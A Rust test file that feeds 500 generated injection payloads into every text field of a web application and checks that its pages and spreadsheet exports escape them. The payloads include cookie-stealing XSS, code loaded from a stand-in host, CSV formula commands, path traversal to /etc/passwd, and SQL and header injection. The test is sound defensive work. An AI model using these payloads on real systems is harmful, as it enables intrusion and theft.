//! Markup, script, style, addresses and formulas typed into every field stay what they are: words.

use super::cells::asks;
use super::district::*;
use axum::http::Method;
use baton_kernel::commands::{Act, FieldInput, TaskDoing};
use baton_kernel::entries::*;
use baton_kernel::ids::*;
use baton_web::routes::table;
use std::collections::{BTreeMap, BTreeSet};
use std::io::Read as _;

/// Five hundred payloads: what breaks out of text, attributes, addresses, scripts, styles, comments and cells.
/// Each holds its number between marks, so that it can be found again: `Zq17q`.
pub fn payloads() -> Vec<String> {
    let handlers =
        ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onpointerenter", "onanimationstart"];
    let codes = ["alert(1)", "alert`1`", "confirm(document.cookie)", "import('//e.example')", "location='//e.example'"];
    let mut shapes: Vec<String> = Vec::new();
    for code in codes {
        for tag in ["script", "ScRiPt", "script type=module", "svg><script", "math><mtext><script"] {
            shapes.push(format!("<{tag}>{code}</script>"));
            shapes.push(format!("</textarea></title><{tag}>{code}</script>"));
            shapes.push(format!("\"><{tag}>{code}</script>"));
        }
        for handler in handlers {
            for tag in ["img src=x", "svg", "details open", "input autofocus", "body", "video><source"] {
                shapes.push(format!("<{tag} {handler}={code}>"));
            }
            shapes.push(format!("\" {handler}=\"{code}"));
            shapes.push(format!("' {handler}='{code}"));
            shapes.push(format!("x {handler}={code} y"));
        }
        for scheme in ["javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:"] {
            shapes.push(format!("{scheme}{code}"));
            shapes.push(format!("<a href=\"{scheme}{code}\">x</a>"));
            shapes.push(format!("[x]({scheme}{code})"));
        }
        shapes.push(format!("{{{{ {code} }}}}{{% raw %}}"));
        shapes.push(format!("<!--><img src=x onerror={code}>-->"));
        shapes.push(format!("]]><img src=x onerror={code}>"));
        shapes.push(format!("\\u003cimg src=x onerror={code}\\u003e"));
        shapes.push(format!("&lt;img src=x onerror={code}&gt;"));
        shapes.push(format!("%3Cimg src=x onerror={code}%3E"));
        shapes.push(format!("＜script＞{code}＜/script＞"));
    }
    for plain in [
        "<style>*{background:url(//e.example)}</style>",
        "\" style=\"position:fixed",
        "<link rel=stylesheet href=//e.example>",
        "<base href=//e.example>",
        "<meta http-equiv=refresh content=0;url=//e.example>",
        "<iframe srcdoc=x>",
        "<object data=x>",
        "<embed src=x>",
        "<form action=//e.example><button>",
        "<a id=csrf name=csrf>",
        "<img name=querySelector>",
        "=HYPERLINK(\"http://e.example\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "＝1+1",
        "=WEBSERVICE(\"//e\")",
        "../../etc/passwd",
        "a\r\nSet-Cookie: x=1",
        "' OR '1'='1",
        "\u{202e}gpj.exe",
        "%00",
        "${7*7}",
        "#{7*7}",
    ] {
        shapes.push(plain.to_owned());
    }
    // The last ones matter most in cells; all fit into a name.
    let shapes: Vec<String> = shapes.iter().rev().cycle().take(500).cloned().collect();
    shapes.into_iter().enumerate().map(|(n, shape)| format!("{shape} Zq{n}q")).collect()
}

/// Hands payloads out in turn; fits them into a length.
struct Hand {
    list: Vec<String>,
    next: usize,
}

impl Hand {
    fn one(&mut self) -> String {
        self.next += 1;
        self.list[(self.next - 1) % self.list.len()].clone()
    }
    fn many(&mut self, count: usize) -> String {
        (0..count).map(|_| self.one()).collect::<Vec<_>>().join("\n")
    }
}

/// Stores every payload, through every act that takes words.
async fn store(d: &District, copy: &Copy, hand: &mut Hand) {
    let day = |text: &str| text.parse().unwrap();
    for (n, (_, t)) in d.things.iter().enumerate() {
        let n = n as u128;
        let kind = ["town", "street", "town"][n as usize];
        let parent = copy.app.journal.snapshot().unit_now(t.unit).unwrap().parent;
        copy.act(
            &format!("u{n}"),
            Act::PutUnit {
                unit: t.unit,
                code: t.code.to_owned(),
                name: hand.one(),
                short: hand.one(),
                kind: kind.to_owned(),
                parent,
                order: 3 + n as u32,
                aliases: vec![hand.one()],
                duties: vec![hand.one(), hand.one()],
                from: None,
                to: None,
            },
        )
        .await;
        copy.act(
            &format!("i{n}"),
            Act::ChangeItem {
                item: t.item,
                name: Some(hand.one()),
                lead: None,
                co: None,
                fields: BTreeMap::from([("note".to_owned(), FieldInput::Typed(hand.many(30)))]),
                because: hand.many(5),
            },
        )
        .await;
        let file = |name: String| async move {
            copy.app
                .journal
                .store()
                .put_file(None, &name, "text/html", b"<script>alert(1)</script>".to_vec())
                .await
                .unwrap()
        };
        let evidence = vec![file(hand.one()).await, file(hand.one()).await];
        let feed = TaskDoing::Feed { last: false, text: hand.many(30), evidence: evidence.clone() };
        copy.act(&format!("t{n}"), Act::ActOnTask { task: t.task, unit: t.unit, what: feed }).await;
        let urge = TaskDoing::Urge { text: hand.many(10) };
        copy.act(&format!("g{n}"), Act::ActOnTask { task: t.task, unit: t.unit, what: urge }).await;
        copy.act(
            &format!("a{n}"),
            Act::AssignTask {
                task: TaskId(0x900 + n),
                code: hand.one().chars().filter(|c| !c.is_control()).take(30).collect(),
                title: hand.one(),
                source: TaskSource::Document(hand.one()),
                said: hand.many(20),
                deadline: Deadline { on: Some(day("2023-05-01")), words: hand.one(), limit: None },
                strands: vec![StrandLine { unit: t.unit, duty: Duty::Lead }],
                aim: hand.one(),
                area: None,
                items: vec![t.item],
            },
        )
        .await;
        copy.act(
            &format!("s{n}"),
            Act::MoveSubmission {
                submission: t.submission,
                to: SubmissionState::Returned,
                because: hand.many(10),
                marks: Vec::new(),
                notes: Vec::new(),
            },
        )
        .await;
        let cut = copy.head();
        copy.act(
            &format!("p{n}"),
            Act::IssuePaper {
                paper: PaperId(0xa00 + n),
                kind: "notice".to_owned(),
                title: hand.one(),
                number: Some(hand.one().chars().filter(|c| !c.is_control()).take(30).collect()),
                meeting: None,
                period: baton_methods::Period::parse("2023Q1").unwrap(),
                cut,
                audience: Scope::All,
                files: evidence.clone(),
                data: evidence[0].clone(),
                facts: baton_kernel::Digest::default(),
                witness: baton_kernel::Digest::default(),
            },
        )
        .await;
        copy.act(
            &format!("o{n}"),
            Act::RecordOutcome {
                meeting: MEETING,
                outcome: OutcomeId(0xb00 + n),
                line: 0,
                kind: OutcomeKind::Decision,
                text: hand.many(20),
            },
        )
        .await;
    }
    for (n, p) in principals().iter().enumerate().filter(|(_, p)| !matches!(p.key, "str" | "for")) {
        let n = 100 + n as u128;
        copy.act(&format!("n{n}"), Act::PutPerson { person: PersonId(n), name: hand.one() }).await;
        let zone = copy.app.journal.snapshot();
        if let Some(post) = zone.post(PostId(n)) {
            let (unit, title) = (post.unit, hand.one());
            copy.act(&format!("q{n}"), Act::PutPost { post: PostId(n), unit, title, from: None, to: None }).await;
        }
        let _ = p;
    }
    let plan = copy.app.journal.snapshot().meeting(MEETING).unwrap().plan.last().unwrap().clone();
    copy.act(
        "m",
        Act::PlanMeeting {
            meeting: MEETING,
            code: plan.code.clone(),
            title: hand.one(),
            period: plan.period,
            on: plan.on,
            place: hand.one(),
            chair: None,
            agenda: vec![plan.agenda[0].clone(), AgendaLine { title: hand.one(), ..plan.agenda[0].clone() }],
            venues: plan.venues.iter().map(|v| VenueLine { name: hand.one(), ..v.clone() }).collect(),
            details: PlanDetails { basis: Some(hand.one()), ..plan.details.clone() },
        },
    )
    .await;
    let words = hand.many(60);
    copy.act(
        "sp",
        Act::RecordSpeech {
            meeting: MEETING,
            speech: SpeechId(0xc00),
            title: hand.one(),
            raw: words.clone(),
            clean: words,
        },
    )
    .await;
    copy.act(
        "rd",
        Act::OpenRound {
            round: RoundId(0xd00),
            title: hand.one(),
            period: baton_methods::Period::parse("2023M02").unwrap(),
            kinds: vec!["matrix-work".to_owned()],
            units: d.things.values().map(|t| t.unit).collect(),
            opens: day("2023-04-01"),
            due: day("2023-04-05"),
            closes: day("2023-04-10"),
            basis: Some(hand.one()),
        },
    )
    .await;
    while hand.next < hand.list.len() {
        let t = &d.things["own"];
        let feed = TaskDoing::Feed { last: false, text: hand.many(20), evidence: Vec::new() };
        copy.act(&format!("z{}", hand.next), Act::ActOnTask { task: t.task, unit: t.unit, what: feed }).await;
    }
}

/// Every element with the names of its attributes, and every address in them, as a browser would read them.
fn elements(html: &str) -> (BTreeSet<String>, Vec<String>) {
    let (mut found, mut links) = (BTreeSet::new(), Vec::new());
    let chars: Vec<char> = html.chars().collect();
    let mut n = 0;
    while n < chars.len() {
        if chars[n] != '<' || !chars.get(n + 1).is_some_and(char::is_ascii_alphabetic) {
            n += 1;
            continue;
        }
        n += 1;
        let name: String = chars[n..].iter().take_while(|c| !c.is_whitespace() && !matches!(c, '>' | '/')).collect();
        n += name.chars().count();
        let name = name.to_ascii_lowercase();
        found.insert(name.clone());
        loop {
            while chars.get(n).is_some_and(|c| c.is_whitespace() || *c == '/') {
                n += 1;
            }
            let Some(c) = chars.get(n) else { break };
            if *c == '>' {
                break;
            }
            let attribute: String =
                chars[n..].iter().take_while(|c| !c.is_whitespace() && !matches!(c, '=' | '>')).collect();
            n += attribute.chars().count().max(1);
            let mut value = String::new();
            if chars.get(n) == Some(&'=') {
                n += 1;
                match chars.get(n) {
                    Some(q @ ('"' | '\'')) => {
                        value = chars[n + 1..].iter().take_while(|c| *c != q).collect();
                        n += value.chars().count() + 2;
                    }
                    _ => {
                        value = chars[n..].iter().take_while(|c| !c.is_whitespace() && **c != '>').collect();
                        n += value.chars().count();
                    }
                }
            }
            let attribute = attribute.to_ascii_lowercase();
            if matches!(attribute.as_str(), "href" | "src" | "action" | "formaction" | "xlink:href") {
                links.push(value);
            }
            found.insert(format!("{name} {attribute}"));
        }
    }
    (found, links)
}

/// Cells of a workbook that hold a formula, and whether each begins with one of ours.
fn formulas(bytes: &[u8]) -> Vec<String> {
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut found = Vec::new();
    for n in 0..zip.len() {
        let mut part = zip.by_index(n).unwrap();
        if part.name().is_ok_and(|name| name.starts_with("xl/worksheets/")) {
            let mut text = String::new();
            part.read_to_string(&mut text).unwrap();
            found.extend(text.split("<f>").skip(1).map(|f| f.split("</f>").next().unwrap_or("").to_owned()));
        }
    }
    found
}

#[tokio::test]
async fn five_hundred_payloads_in_every_field_stay_words_on_every_page_and_in_every_file() {
    let d = District::new().await;
    let (clean, bad) = (d.copy().await, d.copy().await);
    let list = payloads();
    assert_eq!(list.iter().collect::<BTreeSet<_>>().len(), 500);
    let mut hand = Hand { list, next: 0 };
    store(&d, &bad, &mut hand).await;
    let mut known = BTreeSet::new();
    let mut seen = BTreeSet::new();
    let mut pages = 0;
    for copy in [&clean, &bad] {
        let dirty = std::ptr::eq(copy, &bad);
        for who in ["off", "rep", "adm", "sec", "aud"] {
            let mut paths: Vec<String> =
                vec!["/search?q=%3Cscript%3Ealert(1)%3C/script%3E%22%20onload=%22x".to_owned()];
            for route in table().into_iter().filter(|r| r.method == Method::GET) {
                paths.extend(asks(&d, &route, who, 0).into_iter().map(|a| a.path));
            }
            for t in 0..3u128 {
                paths.push(format!("/tasks/{}", TaskId(0x900 + t)));
                paths.push(format!("/papers/{}", PaperId(0xa00 + t)));
            }
            paths.push(format!("/meetings/{MEETING}/speeches/{}", SpeechId(0xc00)));
            paths.push(format!("/rounds/{}", RoundId(0xd00)));
            paths.push(format!("/meetings/{MEETING}/task-table/xlsx"));
            for path in paths {
                let raw = d.ask(copy, who, "GET", &path, &[]).await;
                let text = &raw.answer.text;
                assert!(raw.status() < 500, "{path}: {text}");
                assert!(path == "/sign-in" || !raw.answer.headers.contains_key("set-cookie"), "{path}");
                if raw.media().contains("spreadsheetml") {
                    let bad: Vec<String> = formulas(&raw.bytes).into_iter().filter(|f| f.contains("Zq")).collect();
                    assert!(bad.is_empty(), "{path}: {bad:?}");
                } else if raw.media().starts_with("text/csv") {
                    let cells = text.lines().flat_map(|l| l.split(',')).map(|c| c.trim_matches('"'));
                    for cell in cells.filter(|c| c.contains("Zq")) {
                        assert!(
                            !cell.starts_with(['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠']),
                            "{path}: {cell}"
                        );
                    }
                }
                if !raw.media().starts_with("text/html") {
                    continue;
                }
                let (found, links) = elements(text);
                for link in links {
                    let ours = link.is_empty() || link.starts_with(['/', '#', '?']) && !link.starts_with("//");
                    assert!(ours, "{who} {path}: {link}");
                }
                if dirty {
                    pages += 1;
                    seen.extend((0..500).filter(|n| text.contains(&format!("Zq{n}q"))));
                    let new: Vec<&String> =
                        found.difference(&known).filter(|f| !ORDINARY.contains(&f.as_str())).collect();
                    assert!(new.is_empty(), "{who} {path} has {new:?}");
                } else {
                    for name in &found {
                        let attribute = name.split(' ').nth(1).unwrap_or("");
                        assert!(!attribute.starts_with("on") && attribute != "style", "{path}: {name}");
                        assert!(
                            !matches!(name.as_str(), "style" | "iframe" | "object" | "embed" | "base"),
                            "{path}: {name}"
                        );
                    }
                    known.extend(found);
                }
            }
        }
    }
    assert!(pages > 100, "{pages}");
    assert!(seen.len() >= 430, "{} payloads were shown anywhere", seen.len());
}

/// What pages have only where there is something to show, and never from what somebody typed.
const ORDINARY: &[&str] = &[
    "article",
    "b",
    "blockquote",
    "br",
    "button",
    "button class",
    "button name",
    "button value",
    "dd",
    "del",
    "details",
    "details class",
    "div",
    "div class",
    "dl",
    "dl class",
    "dt",
    "h2",
    "h3",
    "h3 class",
    "h4",
    "ins",
    "li",
    "li class",
    "mark",
    "mark class",
    "mark id",
    "ol",
    "ol class",
    "p",
    "p class",
    "pre",
    "pre class",
    "q",
    "small",
    "small class",
    "span",
    "span class",
    "strong",
    "strong class",
    "summary",
    "time",
    "ul",
    "ul class",
];

#[tokio::test]
async fn a_file_somebody_handed_in_is_saved_and_never_shown() {
    let d = District::new().await;
    let copy = d.copy().await;
    let store = copy.app.journal.store().clone();
    let html = store.put_file(None, "x.html", "text/html", b"<script>alert(1)</script>".to_vec()).await.unwrap();
    let t = &d.things["own"];
    let feed = TaskDoing::Feed { last: false, text: "见附件".to_owned(), evidence: vec![html.clone()] };
    copy.act("f", Act::ActOnTask { task: t.task, unit: t.unit, what: feed }).await;
    let raw = d.ask(&copy, "off", "GET", &format!("/tasks/{}/files/{}", t.task, html.digest), &[]).await;
    let header = |name: &str| raw.answer.headers.get(name).map_or("", |v| v.to_str().unwrap());
    assert_eq!(raw.status(), 200);
    assert!(header("content-disposition").starts_with("attachment;"), "{}", header("content-disposition"));
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert_eq!(header("content-security-policy"), "default-src 'none'; sandbox");
    assert_eq!(header("cache-control"), "no-store");
    // Under another object's path it is not there.
    let other = format!("/tasks/{}/files/{}", d.things["other"].task, html.digest);
    assert_eq!(d.ask(&copy, "off", "GET", &other, &[]).await.status(), 404);
}
